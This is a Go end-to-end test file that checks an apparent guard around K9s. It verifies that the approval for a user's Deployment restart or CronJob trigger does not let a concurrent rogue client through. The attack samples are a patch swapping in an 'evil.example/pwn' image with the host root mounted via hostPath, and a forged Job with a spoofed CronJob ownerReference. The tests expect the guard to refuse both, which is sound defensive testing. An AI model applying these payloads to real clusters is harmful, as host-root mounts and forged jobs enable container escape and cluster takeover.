package e2e

import (
	"context"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// TestScopedRestartCarriesNoImagePatch — attack (issue 13): the user
// restarts a Deployment in the real K9s (`r`, the code, K9s's own confirm);
// while that grant is open, a process holding the session kubeconfig
// patches the same Deployment with its own image and the host's root
// filesystem. The restart K9s sends rides the grant; the patch is held,
// asked for as an edit, and refused on Esc.
func TestScopedRestartCarriesNoImagePatch(t *testing.T) {
	ctx := context.Background()
	adm := admin(t)
	// A Deployment of its own, with no replicas, so that its restart starts
	// no pods the other tests would see; its name sorts first in the view.
	labels := map[string]string{"app": "aaa-restart"}
	_, err := adm.cs.AppsV1().Deployments("shop").Create(ctx, &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "aaa-restart"},
		Spec: appsv1.DeploymentSpec{
			Replicas: new(int32),
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "registry.invalid/web:1"}}},
			},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = adm.cs.AppsV1().Deployments("shop").Delete(context.Background(), "aaa-restart", metav1.DeleteOptions{})
	})
	live := func() *appsv1.Deployment {
		d, err := adm.cs.AppsV1().Deployments("shop").Get(ctx, "aaa-restart", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return d
	}

	env := guardedEnv(t, scopedProfile)
	term := startGuard(t, env, 140, 40, "--context", "prod", "-n", "shop", "-c", "deploy")
	if err := term.WaitFor("the deployments", startTimeout, func(s string) bool {
		return strings.Contains(s, "deployments(shop)") && strings.Contains(s, "aaa-restart")
	}); err != nil {
		t.Fatal(err)
	}
	waitCursor(t, term, func(name string) bool { return name == "aaa-restart" })
	cs := sessionClient(t, term)
	stepUp(t, term, "r", 0)
	// K9s's restart dialog: a FieldManager field, then Cancel (focused) and OK.
	if err := term.WaitText("Confirm Restart", 10*time.Second); err != nil {
		t.Fatal(err)
	}
	if err := term.Type("\t"); err != nil {
		t.Fatal(err)
	}
	if err := term.Type("\r"); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(20 * time.Second)
	for live().Spec.Template.Annotations["kubectl.kubernetes.io/restartedAt"] == "" {
		if time.Now().After(deadline) {
			t.Fatalf("K9s's restart never landed:\n%s", term.Screen())
		}
		time.Sleep(100 * time.Millisecond) // polling the API server with a deadline
	}

	done := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		_, err := cs.AppsV1().Deployments("shop").Patch(ctx, "aaa-restart", types.StrategicMergePatchType,
			[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"evil.example/pwn:1"}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`),
			metav1.PatchOptions{})
		done <- err
	}()
	expectHeldAndRefused(t, term, done, "aaa-restart")
	if img := live().Spec.Template.Spec.Containers[0].Image; img != "registry.invalid/web:1" {
		t.Fatalf("the image became %q", img)
	}
}

// TestScopedTriggerCarriesNoForgedJob — attack (issue 13): the user
// triggers a CronJob in the real K9s (`t`, the code, K9s's confirm); while
// that grant is open, a process holding the session kubeconfig creates a
// Job that names the same CronJob as its owner but runs its own image. The
// Job K9s builds from the template rides the grant; the forged one is held
// as a create and refused. Then K9s's resume (`s`: a PUT of the whole
// CronJob with spec.suspend flipped) needs its own code, and rides it.
func TestScopedTriggerCarriesNoForgedJob(t *testing.T) {
	ctx := context.Background()
	adm := admin(t)
	suspended := true // the controller must not start Jobs of its own
	cj, err := adm.cs.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: "aaa-nightly"},
		Spec: batchv1.CronJobSpec{
			Schedule: "0 3 * * *",
			Suspend:  &suspended,
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				RestartPolicy: corev1.RestartPolicyNever,
				Containers:    []corev1.Container{{Name: "c", Image: "registry.invalid/nightly:1"}},
			}}}},
		},
	}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		bg := metav1.DeletePropagationBackground
		_ = adm.cs.BatchV1().CronJobs("shop").Delete(context.Background(), "aaa-nightly", metav1.DeleteOptions{PropagationPolicy: &bg})
	})
	jobsOf := func() (owned, forged int) {
		l, err := adm.cs.BatchV1().Jobs("shop").List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, j := range l.Items {
			switch {
			case strings.HasPrefix(j.Name, "pwn-"):
				forged++
			case len(j.OwnerReferences) == 1 && j.OwnerReferences[0].UID == cj.UID:
				owned++
			}
		}
		return owned, forged
	}

	env := guardedEnv(t, scopedProfile)
	term := startGuard(t, env, 140, 40, "--context", "prod", "-n", "shop", "-c", "cronjobs")
	if err := term.WaitFor("the cronjobs", startTimeout, func(s string) bool {
		return strings.Contains(s, "cronjobs(shop)") && strings.Contains(s, "aaa-nightly")
	}); err != nil {
		t.Fatal(err)
	}
	waitCursor(t, term, func(name string) bool { return name == "aaa-nightly" })
	cs := sessionClient(t, term)
	confirm := func(title string) {
		t.Helper()
		// K9s's confirm dialog, titled "<title>": Cancel (focused), then OK.
		if err := term.WaitText("<"+title+">", 10*time.Second); err != nil {
			t.Fatal(err)
		}
		if err := term.Type("\t"); err != nil {
			t.Fatal(err)
		}
		if err := term.Type("\r"); err != nil {
			t.Fatal(err)
		}
	}
	stepUp(t, term, "t", 0)
	confirm("Confirm Job Trigger")
	deadline := time.Now().Add(20 * time.Second)
	for owned, _ := jobsOf(); owned == 0; owned, _ = jobsOf() {
		if time.Now().After(deadline) {
			t.Fatalf("K9s's trigger never created its Job:\n%s", term.Screen())
		}
		time.Sleep(100 * time.Millisecond) // polling the API server with a deadline
	}

	yes := true
	forged := cj.Spec.JobTemplate.Spec.DeepCopy()
	forged.Template.Spec.Containers[0].Image = "evil.example/pwn:1"
	done := make(chan error, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		_, err := cs.BatchV1().Jobs("shop").Create(ctx, &batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{Name: "pwn-1", OwnerReferences: []metav1.OwnerReference{{
				APIVersion: "batch/v1", Kind: "CronJob", Name: cj.Name, UID: cj.UID, Controller: &yes, BlockOwnerDeletion: &yes,
			}}},
			Spec: *forged,
		}, metav1.CreateOptions{})
		done <- err
	}()
	expectHeldAndRefused(t, term, done, "create jobs")
	if _, n := jobsOf(); n != 0 {
		t.Fatal("the forged Job exists")
	}

	waitCursor(t, term, func(name string) bool { return name == "aaa-nightly" })
	stepUp(t, term, "s", 1)
	confirm("Resume")
	deadline = time.Now().Add(20 * time.Second)
	for {
		live, err := adm.cs.BatchV1().CronJobs("shop").Get(ctx, "aaa-nightly", metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if live.Spec.Suspend != nil && !*live.Spec.Suspend {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("K9s's resume never landed:\n%s", term.Screen())
		}
		time.Sleep(100 * time.Millisecond) // polling the API server with a deadline
	}
}
